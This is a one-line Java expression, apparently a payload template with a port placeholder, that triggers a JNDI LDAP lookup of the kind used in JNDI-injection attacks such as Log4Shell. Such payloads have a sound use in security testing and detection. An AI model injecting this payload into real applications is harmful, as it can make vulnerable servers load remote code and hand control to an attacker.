new javax.naming.InitialContext().lookup('ldap://127.0.0.1:«port»/far')
